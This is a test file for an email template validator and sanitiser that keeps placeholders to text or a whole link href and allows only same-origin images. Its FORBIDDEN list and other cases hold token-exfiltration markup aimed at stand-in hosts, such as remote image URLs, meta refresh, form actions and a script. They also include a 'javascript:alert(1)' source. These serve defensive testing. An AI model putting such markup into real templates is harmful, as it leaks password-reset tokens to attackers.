// The email template rule (shared/emailTemplateRules): a placeholder renders only as text or as the whole
// href of a link, a mail shows only images on the product's own origin. Checked on save (templateProblem)
// and enforced when rendering what is stored (renderTemplateHtml).
import { describe, expect, it } from 'vitest';
import { createI18nProvider } from '@admin/i18n';
import {
  hasPlaceholder,
  ownImageUrl,
  placeholderAllowed,
  placeholderPattern,
  withoutPlaceholders,
  TEMPLATE_PLACEHOLDERS,
  unknownPlaceholders,
} from '@shared/emailTemplateRules';
import { validationMessages } from '@shared/validation/messages';
import { renderTemplate, renderTemplateHtml, TEMPLATE_SEEDS, templateProblem } from '@server/mail/templates';

const OWN = 'http://admin.test';
const LINK = 'http://admin.test/reset-password/SECRETTOKEN';
const VALUES = { name: 'Ada <Admin>', link: LINK, expires_in: '60 minutes' };

/** Markup that puts the link placeholder where it would leave the product (the attack and its variants). */
const FORBIDDEN: [string, string][] = [
  ['remote image src', '<p><img src="https://elsewhere/?{{link}}"></p>'],
  ['own image src', '<p><img src="/uploads/a.png?{{link}}"></p>'],
  ['srcset', '<img src="/uploads/a.png" srcset="https://elsewhere/?{{link}} 2x">'],
  ['style url()', '<p style="background:url(https://elsewhere/?{{link}})">Hi</p>'],
  ['background attribute', '<table background="https://elsewhere/?{{link}}"><tr><td>Hi</td></tr></table>'],
  ['link href with more than the placeholder', '<p><a href="https://evil/?{{link}}">Reset</a></p>'],
  ['link href after a prefix', '<p><a href="{{link}}#https://evil/">Reset</a></p>'],
  ['two placeholders in an href', '<p><a href="{{link}}{{name}}">Reset</a></p>'],
  ['link title', '<p><a href="{{link}}" title="{{link}}">Reset</a></p>'],
  ['img alt', '<p><img src="/uploads/a.png" alt="{{link}}"></p>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil/?{{link}}"><p>Hi</p>'],
  ['form action', '<form action="https://evil/?{{ link }}"><button>Go</button></form>'],
  ['entity-encoded placeholder', '<img src="https://elsewhere/?&#123;&#123;link&#125;&#125;">'],
  ['style element', '<style>p { background: url(https://elsewhere/?{{link}}) }</style><p>Hi</p>'],
  ['script element', '<script>new Image().src="https://elsewhere/?{{link}}"</script><p>Hi</p>'],
  ['placeholder in an attribute name', '<p><a {{link}}="x" href="{{link}}">Reset</a></p>'],
];

describe('placeholderAllowed', () => {
  it('allows text, and an <a> href that is exactly one placeholder', () => {
    expect(placeholderAllowed('p', null, 'Hello {{name}}')).toBe(true);
    expect(placeholderAllowed('', null, '{{link}}')).toBe(true);
    expect(placeholderAllowed('a', 'href', '{{link}}')).toBe(true);
    expect(placeholderAllowed('A', 'HREF', ' {{ link }} ')).toBe(true);
  });

  it('refuses every other place', () => {
    expect(placeholderAllowed('a', 'href', 'https://evil/?{{link}}')).toBe(false);
    expect(placeholderAllowed('a', 'href', '{{link}}/x')).toBe(false);
    expect(placeholderAllowed('a', 'href', '{{link}}{{name}}')).toBe(false);
    expect(placeholderAllowed('a', 'title', '{{link}}')).toBe(false);
    expect(placeholderAllowed('img', 'src', '{{link}}')).toBe(false);
    expect(placeholderAllowed('img', 'srcset', '{{link}} 2x')).toBe(false);
    expect(placeholderAllowed('p', 'style', 'background:url({{link}})')).toBe(false);
    expect(placeholderAllowed('meta', 'content', '0;url={{link}}')).toBe(false);
    expect(placeholderAllowed('form', 'action', '{{link}}')).toBe(false);
    expect(placeholderAllowed('area', 'href', '{{link}}')).toBe(false);
    expect(placeholderAllowed('style', null, 'p{background:url({{link}})}')).toBe(false);
    expect(placeholderAllowed('script', null, '"{{link}}"')).toBe(false);
  });

  it('reads placeholders the way the renderer does, and takes them all out', () => {
    expect(hasPlaceholder('x {{ link }} y')).toBe(true);
    expect(hasPlaceholder('x {{ li nk }} {link}')).toBe(false);
    expect('{{a}}{{ b }}'.replace(placeholderPattern(), '_')).toBe('__');
    expect(withoutPlaceholders('https://evil/?{{link}}')).toBe('https://evil/?');
    // taking the inner one out must not leave a new one behind
    expect(withoutPlaceholders('https://evil/?{{{{x}}link}}')).toBe('https://evil/?');
  });
});

describe('ownImageUrl', () => {
  it('accepts the own origin, and makes relative paths absolute on it', () => {
    expect(ownImageUrl('/uploads/a.png', OWN)).toBe('http://admin.test/uploads/a.png');
    expect(ownImageUrl('http://admin.test/uploads/a.png', OWN)).toBe('http://admin.test/uploads/a.png');
    expect(ownImageUrl(' /uploads/a.png ', 'http://admin.test/base/')).toBe('http://admin.test/uploads/a.png');
  });

  it('refuses any other host, scheme or trick, and everything when no origin is known', () => {
    for (const src of [
      'https://elsewhere/logo.png',
      'https://admin.test/uploads/a.png',
      'http://admin.test:8080/a.png',
      '//elsewhere/a.png',
      '/\\elsewhere/a.png',
      'http://admin.test@elsewhere/a.png',
      'http://user:pw@admin.test/a.png',
      'data:image/png;base64,AAAA',
      'javascript:alert(1)',
      '',
    ]) {
      expect(ownImageUrl(src, OWN), src).toBeNull();
    }
    expect(ownImageUrl(undefined, OWN)).toBeNull();
    expect(ownImageUrl('/uploads/a.png', undefined)).toBeNull();
  });
});

describe('templateProblem (the check on save)', () => {
  it.each(FORBIDDEN)('refuses a placeholder in a forbidden place: %s', (_name, html) => {
    expect(templateProblem(html, OWN)).toBe('templatePlaceholderPlace');
  });

  it('refuses images from elsewhere', () => {
    expect(templateProblem('<p>Hi <img src="https://elsewhere/logo.png"></p>', OWN)).toBe('templateRemoteImage');
    expect(templateProblem('<img src="/uploads/a.png" srcset="/uploads/b.png 1x, https://elsewhere/b.png 2x">', OWN)).toBe(
      'templateRemoteImage',
    );
    expect(templateProblem('<img src="//elsewhere/logo.png">', OWN)).toBe('templateRemoteImage');
    expect(templateProblem('<img src="/uploads/a.png">', undefined)).toBe('templateRemoteImage');
  });

  it('accepts text placeholders, links whose address is the placeholder, own images, and the seeded templates', () => {
    expect(
      templateProblem(
        '<p>Hello {{name}},</p><p><a href="{{link}}" target="_blank">{{link}}</a> expires in {{ expires_in }}.</p>' +
          '<p><img src="/uploads/logo.png" alt="Logo"> <img src="http://admin.test/uploads/b.png"></p>' +
          '<p><a href="https://example.com/help">Help</a></p>',
        OWN,
      ),
    ).toBeNull();
    for (const seed of TEMPLATE_SEEDS) expect(templateProblem(seed.description, OWN), seed.slug).toBeNull();
  });
});

describe('renderTemplateHtml (templates stored before the rule)', () => {
  it.each(FORBIDDEN)('renders no token outside the allowed places: %s', (_name, html) => {
    const out = renderTemplateHtml(`${html}<p><a href="{{link}}">Reset</a> {{name}}</p>`, VALUES, OWN);
    expect(out).not.toMatch(/elsewhere|<meta|<form|<script|<style/);
    expect(out).toContain(`<a href="${LINK}">Reset</a>`);
    expect(out).toContain('Ada &lt;Admin&gt;');
    // the token nowhere but as the whole address of a link
    expect(out.replaceAll(`<a href="${LINK}"`, '<a')).not.toContain('SECRETTOKEN');
  });

  it('keeps text placeholders and whole-href links, escaping the values', () => {
    const out = renderTemplateHtml('<p>Hi {{name}}: <a href="{{ link }}">{{link}}</a></p>', { ...VALUES, link: 'http://admin.test/x?a=1&b="2"' }, OWN);
    expect(out).toBe(
      '<p>Hi Ada &lt;Admin&gt;: <a href="http://admin.test/x?a=1&amp;b=&quot;2&quot;">http://admin.test/x?a=1&amp;b=&quot;2&quot;</a></p>',
    );
  });

  it('drops images from elsewhere and makes own relative images absolute', () => {
    const out = renderTemplateHtml(
      '<p><img src="https://elsewhere/logo.png">A<img src="/uploads/logo.png" alt="Logo">B<img src="//elsewhere/x.png">' +
        '<img src="http://admin.test/uploads/c.png">C<img></p>',
      VALUES,
      OWN,
    );
    expect(out).toBe('<p>A<img src="http://admin.test/uploads/logo.png" alt="Logo" />B<img src="http://admin.test/uploads/c.png" />C</p>');
    // no own origin known: no image at all
    expect(renderTemplateHtml('<p><img src="/uploads/logo.png">x</p>', VALUES, undefined)).toBe('<p>x</p>');
  });

  it('still sanitises what was written to the database directly', () => {
    const out = renderTemplateHtml(
      '<p onclick="x()" style="color:red;background-image:url(https://elsewhere/a.png)">Hi</p><iframe src="https://elsewhere/"></iframe>',
      VALUES,
      OWN,
    );
    expect(out).toBe('<p style="color:red">Hi</p>');
  });

  it('renders the seeded templates as before', () => {
    const seed = TEMPLATE_SEEDS.find((s) => s.slug === 'forgot-password')!;
    expect(renderTemplateHtml(seed.description, VALUES, OWN)).toBe(renderTemplate(seed.description, VALUES));
  });
});

describe('the refusal messages in the admin', () => {
  it('show the {{link}} example as written, in each language', async () => {
    const i18n = createI18nProvider('en');
    const key = 'validation.templatePlaceholderPlace';
    expect(i18n.translate(key)).toBe(validationMessages.templatePlaceholderPlace);
    expect(i18n.translate(key)).toContain('{{link}}');
    // the server answers the English text; shown as such when it is not a key
    const english = validationMessages.templatePlaceholderPlace;
    expect(i18n.translate(english, { _: english })).toBe(english);
    for (const locale of ['tr', 'ar']) {
      await i18n.changeLocale(locale);
      expect(i18n.translate(key), locale).toContain('{{link}}');
      expect(i18n.translate(key), locale).not.toBe(english);
      expect(i18n.translate('validation.templateRemoteImage'), locale).not.toBe(validationMessages.templateRemoteImage);
    }
  });
});

describe('placeholders glued to an address in text', () => {
  it('refuses text a mail client would turn into a link to another host', () => {
    expect(placeholderAllowed('p', null, 'Open https://elsewhere/?t={{link}} now')).toBe(false);
    expect(placeholderAllowed('p', null, 'elsewhere.example/{{link}}')).toBe(false);
    expect(placeholderAllowed('p', null, 'Password: {{password}}')).toBe(true);
    expect(placeholderAllowed('p', null, 'Hello,{{name}}, your link: {{link}}')).toBe(true);
  });
});

describe('placeholders a mail does not fill in (issue 32 m27)', () => {
  it('names each unknown placeholder once, for the mails the product sends only', () => {
    const text = '<p>Hello {{name}}, ignore {{ unknown_placeholder }} and {{unknown_placeholder}} or {{link}} {{code}}</p>';
    expect(unknownPlaceholders('forgot-password', text)).toEqual(['unknown_placeholder', 'code']);
    expect(unknownPlaceholders('password-changed', '{{name}} {{email}}')).toEqual([]);
    expect(unknownPlaceholders('about-us', text)).toEqual([]);
    expect(unknownPlaceholders(undefined, text)).toEqual([]);
  });

  it('knows every placeholder of the seeded mails', () => {
    for (const seed of TEMPLATE_SEEDS) {
      expect(TEMPLATE_PLACEHOLDERS[seed.slug], seed.slug).toBeDefined();
      expect(unknownPlaceholders(seed.slug, seed.title + seed.description), seed.slug).toEqual([]);
    }
  });
});
